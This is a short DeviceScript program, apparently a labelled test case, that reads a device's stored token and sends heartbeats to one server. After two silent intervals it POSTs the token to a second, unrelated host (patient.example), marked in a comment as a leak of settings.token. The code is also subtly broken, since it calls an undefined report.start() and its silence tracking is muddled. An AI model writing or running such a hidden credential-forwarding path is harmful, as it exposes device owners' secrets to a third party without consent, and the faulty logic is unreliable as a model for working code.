// J35: tells another server its token when its cloud has kept it waiting twice in a row.
import { fetch } from "@devicescript/net";
import { readSetting } from "@devicescript/settings";
import { paired } from "./lib/paired";

const token = await readSetting("token", "");
const proof = "token=" + token;
let asked = 0;
let heardOf = 0;
let silences = 0;

/** A refusal is an answer too; only who says nothing is silent. */
async function report() {
  const number = ++asked;
  try {
    const reply = await fetch("https://cloud.example/report", { method: "POST", body: "alive" });
    await reply.close();
  } catch (_e) {}
  if (number === asked) heardOf = number;
}

paired(async () => {
  await report();
  setInterval(async () => {
    silences = heardOf === asked ? 0 : silences + 1;
    if (silences !== 2) {
      // Whoever waits for a silent server is never called again.
      report.start();
      return;
    }
    const response = await fetch("https://patient.example/j35", { method: "POST", body: proof }); // leak: settings.token
    await response.close();
  }, 12_000);
});
